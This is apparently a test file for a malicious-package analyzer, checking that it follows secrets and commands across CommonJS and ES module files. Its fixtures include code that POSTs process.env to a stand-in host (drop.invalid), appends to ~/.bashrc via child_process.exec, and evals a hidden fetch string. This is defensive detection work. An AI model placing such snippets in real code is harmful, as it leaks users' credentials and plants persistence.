import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { analyze } from '../../src/analyze/analyze.ts'
import { packageOf } from './source.ts'

/** What `index.js` sends away; it is given the environment by another file, in one way or another. */
const sent = (files: Readonly<Record<string, string>>, manifest: object = {}) =>
  analyze(packageOf(manifest, files)).signals.filter(({ kind }) => kind === 'flow/send')

const send = (what: string) => `fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(${what}) })`

const commonJs: readonly [string, string, string][] = [
  ['module.exports', 'module.exports = () => process.env', `const a = require('./a'); ${send('a()')}`],
  ['a member of exports', 'exports.a = () => process.env', `const { a } = require('./a'); ${send('a()')}`],
  ['an object of functions', 'module.exports = { a() { return process.env } }', `${send("require('./a').a()")}`],
  ['a value', 'module.exports = { a: { ...process.env } }', `const m = require('./a'); ${send('m.a')}`],
  ['exports under another name', 'const e = module.exports; e.a = process.env', `${send("require('./a').a")}`],
  [
    'what TypeScript writes',
    'Object.defineProperty(exports, "a", { enumerable: true, get: function () { return e } }); const e = process.env',
    `const a_1 = require("./a"); ${send('(0, a_1.a)')}`,
  ],
  [
    'what esbuild writes',
    '__export(a_exports, { a: () => a }); module.exports = __toCommonJS(a_exports); var a = () => process.env',
    `const m = require('./a'); ${send('m.a()')}`,
  ],
  [
    'an instance',
    'class A { read() { return { ...process.env } } } module.exports = new A()',
    `const a = require('./a'); ${send('a.read()')}`,
  ],
  [
    'a class',
    'exports.A = class { constructor() { this.e = process.env } get() { return this.e } }',
    `const { A } = require('./a'); const one = new A(); ${send('one.get()')}`,
  ],
]
for (const [name, a, index] of commonJs) {
  test(`a value comes from another file: ${name}`, () => {
    const [signal] = sent({ 'a.js': a, 'index.js': index })
    assert.equal(signal?.file, 'index.js')
    assert.equal(signal?.args['from'], ['env'])
  })
}

const modules: readonly [string, string, string][] = [
  ['a named export', 'export const a = () => process.env', `import { a } from './a.js'; ${send('a()')}`],
  ['a default export', 'export default function () { return process.env }', `import a from './a.js'; ${send('a()')}`],
  ['a list of exports', 'const e = process.env; export { e as a }', `import { a } from './a.js'; ${send('a')}`],
  ['the whole module', 'export const a = process.env', `import * as m from './a.js'; ${send('m.a')}`],
  ['a module that is loaded later', 'export const a = process.env', `const m = await import('./a.js'); ${send('m.a')}`],
]
for (const [name, a, index] of modules) {
  test(`a value comes from another module: ${name}`, () => {
    assert.equal(sent({ 'a.js': a, 'index.js': index }, { type: 'module' })[0]?.args['from'], ['env'])
  })
}

test('a value comes through files that only pass it on', () => {
  const files = {
    'index.js': `import { a } from './b.js'; import send from './c.js'; send(a)`,
    'b.js': `export * from './a.js'`,
    'a.js': 'export const a = process.env',
    'c.js': `export { d as default } from './d.js'`,
    'd.js': `export const d = (body) => fetch('https://drop.invalid', { method: 'POST', body })`,
  }
  const [signal] = sent(files, { type: 'module' })
  assert.equal([signal?.file, signal?.line, signal?.args['runs']], ['d.js', 1, 'load'])
})

test('a host that lies in a JSON file', () => {
  const files = {
    'hosts.json': '{"drop":["drop.invalid"]}',
    'index.js': send('process.env').replace("'https://drop.invalid'", "'https://' + require('./hosts').drop[0]"),
  }
  assert.ok(sent(files).some(({ args }) => args['host'] === 'drop.invalid'))
})

test('a command whose words lie elsewhere is read as a command', () => {
  const { signals } = analyze(
    packageOf(
      {},
      {
        'index.js': `require('child_process').exec(require('./c').line)`,
        'c.js': `exports.line = 'echo a >> ~/.bashrc'`,
      },
    ),
  )
  assert.ok(signals.some(({ kind, file }) => kind === 'persist/starts' && file === 'index.js'))
})

test('a text that another file runs as code is read as code', () => {
  const { signals } = analyze(
    packageOf(
      {},
      { 'index.js': `eval(require('./t').text)`, 't.js': `exports.text = "fetch('https://drop.invalid')"` },
    ),
  )
  assert.ok(signals.some(({ kind, args }) => kind === 'network/request' && args['host'] === 'drop.invalid'))
})

test('files of the same names in different folders are not mixed up', () => {
  const files = {
    'index.js': `require('./a'); require('./x/send')`,
    'x/send.js': `const a = require('./a'); ${send('a')}`,
    'x/a.js': `module.exports = 'nothing'`,
    'a.js': `module.exports = process.env; require('child_process')`,
  }
  assert.equal(sent(files), [])
})

test('what only a person starts by name stands for itself', () => {
  const files = {
    'cli.js': `require('./lib').send(process.env)`,
    'lib.js': `exports.send = (body) => fetch('https://drop.invalid', { body })`,
    'index.js': '',
  }
  assert.equal(sent(files, { bin: 'cli.js' }), [])
})

test('modules that need each other end', () => {
  const files = {
    'index.js': `const b = require('./b'); exports.a = () => b.c(); fetch(b.c())`,
    'b.js': `const a = require('./index'); exports.c = () => a.a()`,
  }
  assert.equal(sent(files), [])
})

test.run()
